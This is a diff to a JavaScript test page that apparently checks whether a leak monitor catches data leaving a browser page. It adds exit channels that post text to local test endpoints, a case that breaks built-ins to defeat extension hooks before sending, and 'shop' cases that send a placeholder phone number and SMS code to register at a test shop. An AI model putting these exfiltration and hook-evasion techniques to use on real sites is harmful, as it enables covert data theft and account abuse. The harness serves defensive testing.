@@ -4,6 +4,8 @@ const query = new URLSearchParams(location.search)
 const way = query.get('exit') ?? ''
 const other = `http://peer.${location.host}`
 const $ = (id) => document.getElementById(id)
+const shop = (path) => `http://shop.localhost:${location.port}${path}?way=${location.hostname.split('.')[0]}`
+const OTHER = new URLSearchParams({ phone: '13900000000', agree: 'on', code: '123456' })
 const bytes = (text) => new TextEncoder().encode(text)
 const toHex = (list) => [...list].map((b) => b.toString(16).padStart(2, '0')).join('')
 const post = (path, body, more = {}) => fetch(path, { method: 'POST', body, ...more })
@@ -237,11 +239,11 @@ const exits = {
         href: `/x/preload?p=${t}`,
       }),
     ),
-  prerender: (t) => {
+  prerender: (t, url = `/x/prerender?p=${t}`) => {
     const rules = document.createElement('script')
     rules.type = 'speculationrules'
     rules.textContent = JSON.stringify({
-      prerender: [{ source: 'list', urls: [`/x/prerender?p=${t}`], eagerness: 'immediate' }],
+      prerender: [{ source: 'list', urls: [url], eagerness: 'immediate' }],
     })
     document.head.append(rules)
   },
@@ -273,7 +275,7 @@ const exits = {
   'data-channel': (t) => state.channel.send(t),
   'worker-plain': (t) => state.worker.postMessage({ text: t, plain: true }),
   'worker-hex': (t) => state.worker.postMessage({ text: t }),
-  'worker-bytes': (t) => state.worker.postMessage({ text: [...t].map(Number).join(' '), list: bytes(t) }),
+  'worker-bytes': (t) => state.worker.postMessage({ text: '', list: bytes(t) }),
   'shared-worker': (t) => state.shared.port.postMessage({ text: t }),
   'service-worker': (t) => navigator.serviceWorker.controller.postMessage({ text: t }),
   'service-worker-fetch': (t) => post('/x/through', t),
@@ -390,13 +392,72 @@ const exits = {
     location.href = '/?exit=from-storage'
   },
   'from-storage': () => post('/x/stored', localStorage.getItem('phone')),
-  'clipboard-write': (t) => navigator.clipboard.writeText(t),
-  reporting: (t) => {
-    const frame = frameWith({
-      srcdoc: `<meta http-equiv="content-security-policy" content="img-src 'none'; report-uri /x/report"><img src="/pixel?p=${t}">`,
-    })
-    return loaded(frame)
+  // A picked file: sent whole by the page's script, or put into a form and sent by the browser.
+  'form-file': (t) => {
+    const form = formOf('', { enctype: 'multipart/form-data' })
+    const field = Object.assign(document.createElement('input'), { type: 'file', name: 'file' })
+    const data = new DataTransfer()
+    data.items.add(new File([t], 'a.txt', { type: 'text/plain' }))
+    field.files = data.files
+    form.append(field)
+    form.submit()
   },
+  // A stream into a sink that no header names, as WebTransport has it; here the sink sends what comes.
+  'stream-writer': (t) => {
+    const sink = new WritableStream({ write: (chunk) => post('/x/sink', toHex(chunk)) })
+    return sink.getWriter().write(bytes(t))
+  },
+  'worker-name': (t) => new Worker('/relay.js', { name: t }),
+  'worker-data': (t) =>
+    new Worker(
+      `data:text/javascript,fetch('${location.origin}/x/data-worker',{method:'POST',mode:'no-cors',body:'${t}'})`,
+    ),
+  'patched-before': async (t) => {
+    // A realm whose built-ins are spoiled before any script of an extension can have run in it.
+    const { contentWindow: fresh } = frameWith({})
+    const { fetch: clean } = fresh
+    fresh.Function.prototype.call = () => undefined
+    fresh.Function.prototype.apply = () => undefined
+    fresh.Reflect.apply = () => undefined
+    fresh.JSON.stringify = () => ''
+    fresh.EventTarget.prototype.dispatchEvent = () => true
+    fresh.EventTarget.prototype.addEventListener = () => undefined
+    fresh.TextDecoder.prototype.decode = () => ''
+    await wait(300)
+    return clean(`${location.origin}/x/spoiled`, { method: 'POST', body: t })
+  },
+  // Accounts: the number of somebody else, at a shop that nobody signed for. What counts is what reached the shop.
+  'shop-popup': () => open(shop('/register'), '', 'popup,width=400,height=300'),
+  'shop-popup-later': async () => {
+    const popup = open('about:blank', '', 'popup')
+    await wait(100)
+    popup.location = shop('/register')
+  },
+  'shop-frame': () => frameWith({ src: shop('/register') }),
+  'shop-fetch': () => post(shop('/api/sms'), OTHER, { mode: 'no-cors' }),
+  'shop-beacon': () => navigator.sendBeacon(shop('/api/register'), OTHER),
+  'shop-form': () => formOf('', { action: shop('/api/register'), target: '_blank' }).submit(),
+  'shop-link': () => {
+    const link = Object.assign(document.createElement('a'), { href: shop('/register') })
+    document.body.append(link)
+    link.click()
+  },
+  'shop-meta': () =>
+    document.head.append(
+      Object.assign(document.createElement('meta'), {
+        httpEquiv: 'refresh',
+        content: `0;url=${shop('/register')}`,
+      }),
+    ),
+  'shop-redirect': () => {
+    location.href = `/x/lead?to=${encodeURIComponent(shop('/register'))}`
+  },
+  'shop-worker': () => {
+    const source = `fetch('${shop('/api/sms')}',{method:'POST',mode:'no-cors',body:'${OTHER}'})`
+    new Worker(URL.createObjectURL(new Blob([source])))
+  },
+  'shop-service-worker': () => navigator.serviceWorker.controller.postMessage({ to: shop('/api/sms') }),
+  'shop-prerender': () => exits.prerender('', shop('/register')),
 }
 function xhr(path, body, later = true) {
   const request = new XMLHttpRequest()
@@ -434,6 +495,7 @@ const before = {
     state.shared.port.start()
   },
   'service-worker': register,
+  'shop-service-worker': register,
   'service-worker-fetch': register,
   'broadcast-frame': async () => {
     const frame = frameWith({
@@ -507,6 +569,13 @@ const stages = {
   },
   blob: () =>
     loaded(frameWith({ src: URL.createObjectURL(new Blob([sender('blob')], { type: 'text/html' })) })),
+  'popup-blank'() {
+    state.popup = () => {
+      const popup = open('about:blank', '', 'popup,width=400,height=300')
+      popup.document.body.innerHTML = '<input id="inner">'
+      state.roots.push(popup.document)
+    }
+  },
   data: () => loaded(frameWith({ src: `data:text/html,${encodeURIComponent(sender('data'))}` })),
   sandbox() {
     const frame = document.createElement('iframe')
@@ -560,14 +629,18 @@ const stages = {
     )
   },
   frozen() {
-    Object.defineProperty(HTMLInputElement.prototype, 'value', {
-      set() {},
-      get() {
-        return ''
-      },
+    // A field that tells whoever asks that it is empty; the form knows better.
+    Object.defineProperty(HTMLInputElement.prototype, 'value', { set() {}, get: () => '' })
+    const form = document.createElement('form')
+    $('text').replaceWith(form)
+    form.innerHTML = '<input id="text" name="text">'
+    form.addEventListener('keyup', () => {
+      state.values = `${state.values ?? ''}|${new FormData(form).get('text')}`
     })
-    const get = (field) => new FormData(Object.assign(document.createElement('form'))) && field
-    void get
+  },
+  'log-in'() {
+    $('stage').innerHTML =
+      '<form><input id="user" name="user" type="text" autocomplete="username tel"><input id="pass" type="password" autocomplete="current-password"></form>'
   },
 }
 function shadow(mode) {
